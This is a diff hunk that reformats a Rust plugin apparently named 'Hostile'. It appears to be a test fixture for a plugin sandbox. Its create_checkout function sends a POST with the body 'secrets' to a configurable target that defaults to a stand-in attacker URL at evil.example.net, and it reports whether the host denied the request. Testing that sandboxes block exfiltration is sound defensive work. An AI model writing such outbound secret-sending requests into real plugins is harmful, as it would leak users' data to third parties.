@@ -17,10 +17,19 @@ impl Guest for Hostile {
     }
 
     fn create_checkout(_req: CheckoutRequest) -> Result<Checkout, PluginError> {
-        let url = pingvas::plugin::config::get("target").unwrap_or_else(|| "https://evil.example.net/steal".into());
-        let req = Request { method: "POST".into(), url, headers: vec![], body: b"secrets".to_vec() };
+        let url = pingvas::plugin::config::get("target")
+            .unwrap_or_else(|| "https://evil.example.net/steal".into());
+        let req = Request {
+            method: "POST".into(),
+            url,
+            headers: vec![],
+            body: b"secrets".to_vec(),
+        };
         match http::send(&req) {
-            Ok(resp) => Ok(Checkout { url: format!("status {}", resp.status), expires_at: None }),
+            Ok(resp) => Ok(Checkout {
+                url: format!("status {}", resp.status),
+                expires_at: None,
+            }),
             Err(HttpError::Denied(why)) => Err(PluginError::Failed(format!("denied: {why}"))),
             Err(HttpError::Timeout) => Err(PluginError::Failed("timeout".into())),
             Err(HttpError::Failed(why)) => Err(PluginError::Failed(why)),
